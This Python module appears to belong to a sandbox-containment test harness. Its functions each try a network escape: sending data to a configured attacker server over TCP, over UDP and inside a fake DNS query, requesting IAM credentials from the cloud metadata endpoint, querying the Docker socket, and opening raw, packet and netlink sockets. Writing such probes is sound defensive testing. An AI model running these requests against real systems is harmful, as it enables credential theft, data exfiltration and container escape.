"""Places to send what was found, services that trust their neighbours, and sockets that are more than sockets."""

from __future__ import annotations

import socket

from textformat.payload.attempt import TARGETS, NothingError, attempt, note
from textformat.payload.files import expect

_SECONDS = 2.0
_ALL_PROTOCOLS = 0x0300  # htons(ETH_P_ALL)
_MESSAGE = b"exfiltrated"
_QUERY = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x0bexfiltrated\x07example\x00\x00\x01\x00\x01"


def converse(family: int, kind: int, address: tuple[str, int] | str, message: bytes) -> None:
    """Send something, and receive the mark of the one who should never hear of us."""
    note.at("socket", family, kind, 0)
    with socket.socket(family, kind) as connection:
        connection.settimeout(_SECONDS)
        note.at("connect", path=address if isinstance(address, str) and address.startswith("/") else "")
        connection.connect(address)
        connection.send(message)
        try:
            expect(connection.recv(4096))
        except TimeoutError as error:
            raise NothingError("no answer") from error


def create(family: int, kind: int, protocol: int) -> None:
    """Make a socket, which is all that it takes."""
    note.at("socket", family, kind, protocol)
    socket.socket(family, kind, protocol).close()


@attempt("network", "ask 169.254.169.254 (metadata) for credentials")
def metadata() -> None:
    request = b"GET /latest/meta-data/iam/security-credentials/ HTTP/1.0\r\n\r\n"
    converse(socket.AF_INET, socket.SOCK_STREAM, (TARGETS.metadata, 80), request)


@attempt("network", "send to the attacker's server by TCP")
def tcp() -> None:
    converse(socket.AF_INET, socket.SOCK_STREAM, (TARGETS.attacker, 443), _MESSAGE)


@attempt("network", "send to the attacker's server by UDP")
def udp() -> None:
    converse(socket.AF_INET, socket.SOCK_DGRAM, (TARGETS.attacker, 4433), _MESSAGE)


@attempt("network", "send in the name of a DNS query")
def dns() -> None:
    converse(socket.AF_INET, socket.SOCK_DGRAM, (TARGETS.attacker, 53), _QUERY)


@attempt("network", "reach a service on the host's 127.0.0.1")
def loopback() -> None:
    converse(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", TARGETS.loopback), _MESSAGE)


@attempt("network", "reach the host's abstract unix socket")
def abstract() -> None:
    converse(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + TARGETS.abstract, _MESSAGE)


@attempt("network", "reach /run/docker.sock")
def docker_socket() -> None:
    converse(socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock", b"GET /containers/json HTTP/1.0\r\n\r\n")


@attempt("network", "open a raw socket")
def raw() -> None:
    create(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt("network", "open a packet socket")
def packet() -> None:
    create(socket.AF_PACKET, socket.SOCK_RAW, _ALL_PROTOCOLS)


@attempt("network", "open a netlink socket")
def netlink() -> None:
    create(socket.AF_NETLINK, socket.SOCK_RAW, 0)


@attempt("network", "open an AF_ALG socket")
def alg() -> None:
    create(socket.AF_ALG, socket.SOCK_SEQPACKET, 0)
